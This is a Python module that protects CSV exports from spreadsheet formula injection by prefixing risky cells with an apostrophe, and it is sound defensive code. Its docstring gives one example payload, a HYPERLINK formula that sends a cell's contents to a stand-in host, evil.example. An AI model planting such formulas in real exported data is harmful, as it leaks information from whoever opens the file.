"""CSV that a spreadsheet opens as text, never as formulas (CSV injection, OWASP).

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab, a carriage return or a line
feed (or their full-width forms) is run by Excel, LibreOffice and Google Sheets as a
formula, so a name like ``=HYPERLINK("https://evil.example?"&A1, "open")`` in someone's
data would act on the machine of whoever opens the export. Such cells are written with a
leading ``'``, which spreadsheets show as text. Numbers are left alone. Every CSV Pledge
writes goes through :func:`writer` (or :func:`cell` for ``csv.DictWriter`` rows).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import Any

__all__ = ["FORMULA_STARTS", "SafeWriter", "cell", "cells", "writer"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def cell(value: Any) -> Any:
    """``value``, with a ``'`` in front when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def cells(row: Mapping[str, Any]) -> dict[str, Any]:
    """A ``csv.DictWriter`` row with every value passed through :func:`cell`."""
    return {k: cell(v) for k, v in row.items()}


class SafeWriter:
    """``csv.writer`` whose rows go through :func:`cell`.

    A row with a carriage return inside a value is written with every field quoted: the
    ``csv`` module quotes only for the characters of its own line terminator (``\n``
    here), and a bare ``\r`` would end the row early in most readers."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)
        self._quoted = csv.writer(out, **{**kwargs, "quoting": csv.QUOTE_ALL})

    def writerow(self, row: Iterable[Any]) -> Any:
        values = [cell(v) for v in row]
        if any(isinstance(v, str) and "\r" in v for v in values):
            return self._quoted.writerow(values)
        return self._writer.writerow(values)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **kwargs: Any) -> SafeWriter:
    return SafeWriter(out, **kwargs)
